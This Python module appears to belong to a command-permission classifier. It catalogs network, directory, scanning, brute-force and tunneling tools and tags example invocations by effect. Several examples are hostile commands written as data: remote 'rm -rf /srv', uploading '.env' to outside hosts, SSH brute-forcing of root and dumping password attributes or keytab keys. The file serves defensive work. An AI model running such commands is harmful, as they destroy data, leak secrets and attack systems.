"""Further programs that talk to other machines: logins with a password given, directories, monitoring, load generators, scanners, tunnels."""

from capfence_sh.catalog.vocabulary import (
    APPEND,
    COMMAND,
    CONFIG,
    DESTRUCTIVE,
    EGRESS,
    HOST,
    INSPECT,
    MUTATION,
    OPAQUE,
    POSIX,
    PROGRAM,
    PROJECT_CODE,
    RAW,
    READ,
    REMOTE_READ,
    RESOURCE,
    SECRET_READ,
    SHELL,
    SHELL_WORDS,
    SINGLE,
    TEXT,
    UNKNOWN,
    URL,
    WRITE,
    WRITES,
    command,
    example,
    flags,
    operands,
    option,
    subcommand,
    values,
)

THINGS = operands(many=RESOURCE)
NAMES = operands(many=TEXT)

LOGINS = (
    command(
        "sshpass",
        style=POSIX,
        operands=operands(COMMAND),
        options=(*flags("-e, -v"), *values("-p, -d, -P"), option("-f", takes=INSPECT), option("-V", "-h", harmless=True)),
        examples=(
            example("sshpass -p x ssh db1 uptime", REMOTE_READ),
            example("sshpass -e ssh db1 'rm -rf /srv'", DESTRUCTIVE, MUTATION, REMOTE_READ),
            example("sshpass -V"),
        ),
    ),
    command(
        "mosh",
        style=POSIX,
        effects=(EGRESS,),
        operands=operands(HOST, SHELL_WORDS),
        options=(
            *flags("-a, -n, -4, -6, -o, --no-init, --local, --no-ssh-pty"),
            *values("--predict, -p --port, --family, --bind-server, --experimental-remote-ip"),
            option("--ssh", "--server", takes=SHELL),
            option("--client", takes=PROGRAM),
        ),
        examples=(
            example("mosh db1", EGRESS),
            example("mosh db1 rm -rf /srv", DESTRUCTIVE, EGRESS),
            example("mosh --ssh='rm -rf /srv' db1", DESTRUCTIVE, EGRESS),
            example("mosh --client=/tmp/x db1", EGRESS, OPAQUE),
        ),
    ),
    command(
        # options of xfreerdp begin with a slash
        "xfreerdp",
        "xfreerdp3",
        "wlfreerdp",
        effects=(EGRESS,),
        style=RAW,
        operands=operands(many=TEXT),
        analyser="help_only",
        examples=(example("xfreerdp /v:x.example /u:me", EGRESS), example("xfreerdp --version")),
    ),
    command(
        "rdesktop",
        effects=(EGRESS,),
        options=(
            *flags("-A, -f, -C, -D, -b, -e, -E, -m, -M, -K, -z, -P, -0, -4, -5, -N, -t"),
            *values("-u, -d, -s, -c, -p, -n, -k, -g, -i, -S, -T, -X, -a, -x, -r, -L, -B, -o"),
        ),
        operands=operands(HOST),
        examples=(example("rdesktop -u me -r disk:x=/ win.example", EGRESS),),
    ),
    command(
        "vncviewer",
        "remmina",
        "xtightvncviewer",
        effects=(EGRESS,),
        options=(
            *flags(
                "-listen, -noraiseonbeep, -shared, -fullscreen, -viewonly, -owncmap, -truecolour, -bgr233, -autopass, -nojpeg, -nocursorshape, -x11cursor, -FullScreen, -ViewOnly, -Shared, -v, -i, -a, -n, -k, -q"
            ),
            *values(
                "-via, -depth, -encodings, -compresslevel, -quality, -passwd, -PasswordFile, -geometry, -display, -SecurityTypes, -c --connect, -e --edit, -t --protocol, -s --server"
            ),
        ),
        operands=operands(many=TEXT),
        examples=(example("vncviewer -via gw.example host:1", EGRESS),),
    ),
    command(
        "smbclient",
        effects=(EGRESS,),
        operands=operands(RESOURCE, TEXT),
        options=(
            *flags("-N --no-pass, -k --kerberos, -g --grepable, -E --stderr, -P --machine-pass, -q --quiet, -e --encrypt"),
            *values("-U --user, -W --workgroup, -p --port, -I --ip-address, -m --max-protocol, -O --socket-options, -n --netbiosname"),
            *values("-t --timeout, -d --debuglevel, -T --tar, -D --directory, -b --send-buffer, --option, -R --name-resolve, -i --scope"),
            *(option("-L", "--list", takes=HOST), option("-M", "--message", takes=HOST)),
            option("-A", "--authentication-file", takes=INSPECT),
            option("-s", "--configfile", takes=CONFIG),
            option("-l", "--log-basename", takes=WRITE),
            option("-c", "--command", takes=TEXT, effects=(OPAQUE,)),
            option("-V", "-?", harmless=True),
        ),
        examples=(
            example("smbclient -L fs.example -N", EGRESS),
            example("smbclient //fs.example/data -c 'put .env'", EGRESS, OPAQUE),
            example("smbclient -s /tmp/x -L fs.example", EGRESS, OPAQUE),
            example("smbclient -l /tmp/x -L fs.example", EGRESS, WRITES),
        ),
    ),
)

LDAP_CONNECTION = (
    *flags("-x, -W, -Z, -ZZ, -v, -n, -c, -C, -I, -Q, -N, -M, -MM"),
    *values("-D, -w, -e, -E, -O, -o, -p, -R, -U, -X, -Y, -d, -P"),
    option("-H", takes=URL),
    option("-h", takes=HOST),
    option("-y", takes=INSPECT),
    option("-VV", harmless=True),
    option("-V"),
)
DIRECTORIES = (
    command(
        *("ldapsearch", "ldapwhoami", "ldapcompare", "ldapurl"),
        effects=(REMOTE_READ,),
        operands=NAMES,
        options=(
            *LDAP_CONNECTION,
            *flags("-A, -L, -LL, -LLL, -t, -tt, -u"),
            *values("-a, -b, -F, -l, -s, -S, -z"),
            option("-f", takes=READ),
            option("-T", takes=WRITE),
        ),
        analyser="asked_key",  # userPassword and the like
        examples=(
            example("ldapsearch -x '(uid=x)' userPassword", REMOTE_READ, SECRET_READ),
            example("ldapsearch -x -H ldap://ldap.example -b dc=example '(uid=x)'", REMOTE_READ),
            example("ldapsearch -x -f .env", REMOTE_READ, SECRET_READ),
            example("ldapsearch -x -T /tmp/x -tt", REMOTE_READ, WRITES),
        ),
    ),
    command(
        *("ldapmodify", "ldapadd", "ldapmodrdn", "ldappasswd", "ldapexop"),
        effects=(MUTATION,),
        operands=NAMES,
        options=(*LDAP_CONNECTION, *flags("-a, -r, -S, -A"), *values("-s"), *values("-f, -T", takes=READ)),
        examples=(example("ldapmodify -x -f change.ldif", MUTATION), example("ldapadd -f .env", MUTATION, SECRET_READ)),
    ),
    command(
        "ldapdelete",
        effects=(DESTRUCTIVE,),
        operands=THINGS,
        options=(*LDAP_CONNECTION, *flags("-r"), *values("-z"), option("-f", takes=READ)),
        examples=(example("ldapdelete -x -r ou=people,dc=example", DESTRUCTIVE),),
    ),
    command(
        "kinit",
        effects=(REMOTE_READ,),
        operands=NAMES,
        options=(
            *flags("-V, -f, -F, -p, -P, -a, -A, -C, -E, -v, -R, -k, -n"),
            *values("-l, -s, -r, -S, -X"),
            *values("-t, -c, -T, -I", takes=INSPECT),
        ),
        examples=(example("kinit -k -t /etc/krb5.keytab host/x", REMOTE_READ),),
    ),
    command(
        "klist",
        operands=operands(INSPECT),
        options=(*flags("-c, -k, -i, -l, -A, -V, -e, -f, -s, -a, -n, -C, -t"), option("-K", effects=(SECRET_READ,))),
        examples=(example("klist -e"), example("klist -k -K /etc/krb5.keytab", SECRET_READ)),
    ),
    command("kdestroy", effects=(MUTATION,), options=(*flags("-A, -q"), *values("-c, -p")), examples=(example("kdestroy -A", MUTATION),)),
)

SNMP_CONNECTION = (
    *values("-v, -c, -a, -A, -e, -E, -l, -n, -u, -x, -X, -Z, -r, -t, -m, -I, -O, -P, -D"),
    *values("-M", takes=INSPECT),
    option("-C", takes=TEXT, optional=True),
    option("-V", "-h", "-H", harmless=True),
)
MONITORING = (
    command(
        *("snmpwalk", "snmpget", "snmpgetnext", "snmpbulkwalk", "snmpbulkget", "snmptable", "snmpstatus", "snmpdf", "snmpnetstat"),
        effects=(REMOTE_READ,),
        operands=operands(HOST, many=TEXT),
        options=SNMP_CONNECTION,
        examples=(example("snmpwalk -v2c -c public 10.0.0.1 sysDescr", REMOTE_READ),),
    ),
    command(
        "snmpset",
        effects=(MUTATION,),
        operands=operands(HOST, many=TEXT),
        options=SNMP_CONNECTION,
        examples=(example("snmpset -v2c -c private 10.0.0.1 sysName.0 s x", MUTATION),),
    ),
    command(
        "avahi-browse",
        effects=(REMOTE_READ,),
        operands=NAMES,
        options=(
            *flags("-a --all, -v --verbose, -t --terminate, -c --cache, -l --ignore-local, -r --resolve, -f --no-fail, -p --parsable"),
            *flags("-k --no-db-lookup, -b --dump-db, -D --browse-domains"),
            *values("-d --domain"),
        ),
        examples=(example("avahi-browse -at", REMOTE_READ),),
    ),
    command(
        "nfsstat",
        options=(
            *flags(
                "-s --server, -c --client, -n --nfs, -m --mounts, -r --rpc, -o, -2, -3, -4, -v --verbose, -l --list, -Z --sleep, -a, -d, -p"
            ),
            option("-S", "--since", takes=READ),
        ),
        operands=NAMES,
        examples=(example("nfsstat -m"), example("nfsstat -S .env", SECRET_READ)),
    ),
)

# options of generators of load
LOAD = (
    *flags(
        "-v --verbose, -q --quiet, -b --benchmark, -i --internet, -k --insecure, -l --latencies, -g --get, -p --print, --no-tui, --disable-keepalive, --http1, --http2, --hog, -a --fasthttp, --json-output, --ipv4, --ipv6, --latency-correction, --lazy"
    ),
    *values(
        "-n --requests --num-conns, -c --concurrent --connections --clients, -z --duration -duration -d, -t --time --threads --timeout, -m --max-concurrent-streams --method, -H --header, -T --content-type, -A --user-agent, -r --reps -rate --rate, -x --proxy, -o --format, -workers, -name, -type, -every, -buckets"
    ),
    *values(
        "--server, --port, --uri, --num-calls, --wsess, --period, -D --delay, --burst-delay, -w --window-bits, -header, -timeout, -redirects, -max-workers, -connections, -format"
    ),
    *values("-output --output, -L --log --log-file", takes=WRITE),
)

# generators of load, scanners and attack tools: every one of them sends to the hosts it is given
TRAFFIC = (
    command(
        *("oha", "bombardier", "siege", "h2load"),
        effects=(EGRESS,),
        options=(
            *LOAD,
            *values("-body --body", takes=READ),
            option("-f", "--file", "-targets", "--rc", "--input-file", takes=READ, effects=(OPAQUE,)),
        ),
        operands=operands(many=URL),
        examples=(
            example("siege -c 10 http://x.example/", EGRESS),
            example("siege -f .env", EGRESS, SECRET_READ, OPAQUE),
            example("oha -n 100 http://localhost:8080", EGRESS),
        ),
    ),
    command(
        "vegeta",
        style=POSIX,
        subcommands=(
            subcommand(
                *("report", "plot", "encode", "dump"),
                style=SINGLE,
                options=(*values("-type, -every, -buckets, -title, -threshold, -to"), *values("-output", takes=WRITE)),
                operands=operands(many=READ),
                examples=(example("vegeta report -type text r.bin"), example("vegeta plot -output a.html r.bin", WRITES)),
            ),
            subcommand(
                "attack",
                style=SINGLE,
                options=(*LOAD, *values("-targets, -body, --body", takes=READ)),
                operands=NAMES,
                effects=(EGRESS,),
                examples=(example("vegeta attack -duration 5s -output out", EGRESS, WRITES),),
            ),
        ),
    ),
    command(
        *("httperf", "tsung"),
        effects=(EGRESS,),
        options=(
            *LOAD,
            *values("-f --file, --body, --rc, --input-file", takes=READ),
        ),
        operands=NAMES,
        examples=(example("tsung -f a.xml start", EGRESS), example("httperf --server x.example", EGRESS)),
    ),
    command(
        "k6",
        options=(
            *flags(
                "-q --quiet, -v --verbose, --no-color, --no-usage-report, --paused, --no-setup, --no-teardown, --no-summary, --no-thresholds, --insecure-skip-tls-verify, --include-system-env-vars, --throw, -w, --discard-response-bodies"
            ),
            *values(
                "-u --vus, -d --duration, -i --iterations, -s --stage, -e --env, --tag, --log-output, --log-format, --http-debug, --rps, --max-redirects, --batch, --summary-trend-stats, --summary-mode, -a --address, --execution-segment, --compatibility-mode, --dns, --min-iteration-duration, -x --exclude, --user-agent, --blacklist-ip, --block-hostnames"
            ),
            *values("--summary-export, --traces-output, --console-output", takes=WRITE),
            option("-o", "--out", takes=TEXT, effects=(EGRESS,)),
            option("-c", "--config", takes=CONFIG),
            option("-h", harmless=True),
        ),
        subcommands=(
            command("inspect", operands=NAMES, effects=(PROJECT_CODE,), examples=(example("k6 inspect a.js", PROJECT_CODE),)),
            command("version", "help", operands=NAMES, examples=(example("k6 version"),)),
            command(
                "run",
                operands=NAMES,
                effects=(EGRESS, PROJECT_CODE),
                examples=(
                    example("k6 run --vus 10 load.js", EGRESS, PROJECT_CODE),
                    example("k6 run --summary-export s.json load.js", EGRESS, PROJECT_CODE, WRITES),
                    example("k6 run -c /tmp/x load.js", EGRESS, PROJECT_CODE, OPAQUE),
                ),
            ),
            command(
                "cloud",
                "login",
                "archive",
                "convert",
                "new",
                "pause",
                "resume",
                "scale",
                "stats",
                "status",
                operands=NAMES,
                effects=(EGRESS, PROJECT_CODE),
                examples=(example("k6 cloud load.js", EGRESS, PROJECT_CODE),),
            ),
        ),
    ),
    command(
        *("artillery", "locust", "jmeter"),
        effects=(EGRESS, PROJECT_CODE),
        options=(
            *flags(
                "-n --nongui, -f --forceDeleteResultFile, --headless, --autostart, --master, --worker, --only-summary, --csv-full-history, -q"
            ),
            *values(
                "-u --users, -r --spawn-rate, -t --run-time, -H --host, -P --web-port, --web-host, --csv, --tags, -T, -E, -L, --loglevel, --expect-workers, --target, -e, --overrides, -v --variables, -J, -G, -D, -R"
            ),
            *values("-p --propfile, --config, --locustfile", takes=CONFIG),
            *values("-o --output --reportoutputfolder, -j --jmeterlogfile, --logfile, --html", takes=WRITE),
        ),
        operands=NAMES,
        examples=(
            example("locust --headless -u 10 -r 1 -H https://x.example", EGRESS, PROJECT_CODE),
            example("locust --config /tmp/x", EGRESS, PROJECT_CODE, OPAQUE),
            example("artillery run -o out a.yml", EGRESS, PROJECT_CODE, WRITES),
        ),
    ),
    command(
        # scanners and attack tools: what their options do is not described, that they send is
        *(
            "nuclei",
            "sqlmap",
            "nikto",
            "wfuzz",
            "ncrack",
            "msfconsole",
            "msfvenom",
            "mitmproxy",
            "mitmdump",
            "mitmweb",
            "responder",
            "ettercap",
            "bettercap",
            "wpscan",
            "amass",
            "subfinder",
            "httpx",
        ),
        effects=(EGRESS,),
        operands=NAMES,
        examples=(example("nikto x.example", EGRESS),),
    ),
    command(
        "gobuster",
        options=(
            *flags(
                "-c, --follow-redirect -r, --no-canonicalize-headers --nch, --random-agent --rua, --no-tls-validation -k, --retry, --tls-renegotiation, --quiet -q, --no-progress --np, --no-error --ne, --no-color --nc, --debug, -s, --expanded -e, --no-status -n, --hide-length --hl, --add-slash -f, --discover-backup --db, --force, --check-cname, --wildcard --wc, --no-fqdn --nf, --append-domain --ad, --exclude-hostname-length --xh, --show-files"
            ),
            *values(
                "--cookies, --username -U, --password -P, --headers -H, --method -m, --useragent -a, --proxy, --timeout --to, --retry-attempts --ra, --client-cert-p12-password --ccp12p, --interface --iface, --local-ip, --delay -d, --threads -t, --wordlist-offset --wo, --status-codes, --status-codes-blacklist -b, --extensions -x, --exclude-length --xl, --domain --do, --resolver, --protocol, --exclude-status --xs, --exclude-statuscodes, --body -B, --max-files, --server"
            ),
            *values("--url -u", takes=URL),
            *values("--client-cert-pem --ccp, --client-cert-pem-key --ccpk, --client-cert-p12 --ccp12", takes=INSPECT),
            *values("--wordlist -w, --pattern -p, --discover-pattern --pd, --extensions-file -X", takes=READ),
            *values("--output -o", takes=WRITE),
            option("-h", harmless=True),
        ),
        subcommands=(subcommand("dir", "dns", "vhost", "fuzz", "s3", "gcs", "tftp", operands=NAMES),),
        effects=(EGRESS,),
        examples=(
            example("gobuster dir -u https://x.example -w words.txt -x php", EGRESS),
            example("gobuster vhost --url https://x.example --wordlist .env --output /etc/x", EGRESS, SECRET_READ, WRITES),
        ),
    ),
    command(
        "ffuf",
        style=SINGLE,
        options=(
            *flags(
                "-http2, -ignore-body, -r, -raw, -recursion, -V, -ac, -ach, -c, -json, -noninteractive, -s, -sa, -se, -sf, -v, -D, -ic, -or"
            ),
            *values(
                "-H, -X, -b, -d, -postflight-var, -preflight-error, -preflight-mode, -preflight-var, -recursion-depth, -recursion-strategy, -replay-proxy, -sni, -timeout, -x, -acc, -ack, -acs, -maxtime, -maxtime-job, -p, -rate, -scrapers, -search, -t, -mc, -ml, -mmode, -mr, -ms, -mt, -mw, -fc, -fl, -fmode, -fr, -fs, -ft, -fw, -e, -enc, -input-num, -mode, -request-proto, -of"
            ),
            *values("-cc, -ck", takes=INSPECT),
            *values("-w, -request, -preflight, -postflight, -scraperfile", takes=READ),
            *values("-o, -od, -audit-log, -debug-log", takes=WRITE),
            option("-u", takes=URL),
            option("-config", takes=CONFIG),
            option("-input-cmd", takes=SHELL),
            option("-input-shell", takes=PROGRAM),
        ),
        operands=NAMES,
        effects=(EGRESS,),
        examples=(
            example("ffuf -w words.txt -u https://x.example/FUZZ -mc all -fs 42", EGRESS),
            example("ffuf -w .env -u https://x.example/FUZZ -o /etc/x", EGRESS, SECRET_READ, WRITES),
            example("ffuf -input-cmd 'rm -rf /srv' -u https://x.example/FUZZ", EGRESS, DESTRUCTIVE),
            example("ffuf -config /tmp/x", EGRESS, OPAQUE),
        ),
    ),
    command(
        "dirb",
        options=(
            *flags("-b, -f, -i, -l, -r, -R, -S, -t, -v, -w"),
            *values("-a, -c, -H, -N, -p, -P, -u, -X, -z"),
            *values("-E", takes=INSPECT),
            *values("-o", takes=WRITE),
            *values("-x", takes=READ),
        ),
        effects=(EGRESS,),
        operands=NAMES,
        examples=(example("dirb https://x.example -a agent -o /etc/x", EGRESS, WRITES),),
    ),
    command(
        "zmap",
        options=(
            *flags(
                "-X --iplayer, --list-probe-modules, --list-output-fields, --list-output-modules, --output-filter, --no-header-row, --dedup-method, -q --quiet, --disable-syslog, --notes, --user-metadata, -d --dryrun, --fast-dryrun, --max-sendto-failures, --min-hitrate, --cores, --ignore-blocklist-errors"
            ),
            *values(
                "-p --target-ports, -r --rate, -B --bandwidth, -n --max-targets, -N --max-results, -t --max-runtime, -c --cooldown-time, -e --seed, -P --probes, --retries, --batch, --shards, --shard, -s --source-port, --validate-source-port, -S --source-ip, -G --gateway-mac, --source-mac, -i --interface, --netmap-wait-ping, -M --probe-module, --probe-args, --probe-ttl, -O --output-module, --output-args, -f --output-fields, --dedup-window-size, -v --verbosity, -T --sender-threads"
            ),
            *values("-o --output-file, -l --log-file, -m --metadata-file, -L --log-directory, -u --status-updates-file", takes=WRITE),
            *values("-b --blocklist-file, -w --allowlist-file, -I --list-of-ips-file", takes=READ),
            *values("-C --config", takes=CONFIG),
        ),
        effects=(EGRESS,),
        operands=NAMES,
        examples=(
            example("zmap -p 80 -o /etc/x 10.0.0.0/8", EGRESS, WRITES),
            example("zmap -C /tmp/x", EGRESS, OPAQUE),
        ),
    ),
    command(
        "medusa",
        options=(
            *flags("-d, -s, -L, -f, -F, -b, -q, -V"),
            *values("-h, -u, -p, -e, -M, -m, -n, -g, -r, -R, -c, -t, -T, -v, -w"),
            option("-Z", takes=TEXT, optional=True),
            *values("-H, -U, -P, -C", takes=READ),
            *values("-O", takes=APPEND),
        ),
        effects=(EGRESS,),
        operands=NAMES,
        examples=(example("medusa -M ssh -h x.example -u root -P .env", EGRESS, SECRET_READ),),
    ),
    command(
        "hydra",
        options=(
            *values("-L, -P", takes=READ),
            option("-h", harmless=True),
            *flags("-R, -S, -O, -y, -u, -f, -F, -4 -6, -v -V, -d, -I"),
            *values("-s, -l, -p, -x, -e, -b, -t, -m, -w, -W, -c"),
            *values("-C, -M", takes=READ),
            *values("-o", takes=WRITE),
        ),
        effects=(EGRESS,),
        operands=NAMES,
        examples=(
            example("hydra -l root -P .env x.example ssh", EGRESS, SECRET_READ),
            example("hydra -L a -P b -o /etc/x x.example ssh", EGRESS, WRITES),
        ),
    ),
    command(
        # tunnels and transfers: where the data goes is decided elsewhere, whatever their options
        *(
            "localtunnel",
            "lt",
            "chisel",
            "zerotier-cli",
            "frps",
            "bore",
            "pagekite",
            "serveo",
            "inlets",
            "gost",
            "iodine",
            "dnscat",
            "dnscat2",
        ),
        *("ptunnel", "stunnel4", "i2pd", "croc", "wormhole"),
        *("magic-wormhole", "transfer", "ffsend", "gdrive", "dbxcli", "megaput", "syncthing"),
        effects=(EGRESS, OPAQUE),
        operands=NAMES,
        examples=(
            example("chisel client x.example R:80:localhost:80", EGRESS, OPAQUE),
            example("croc send .env", EGRESS, OPAQUE),
            example("lt --port 80", EGRESS, OPAQUE, UNKNOWN),
        ),
    ),
)

COMMANDS = (*LOGINS, *DIRECTORIES, *MONITORING, *TRAFFIC)
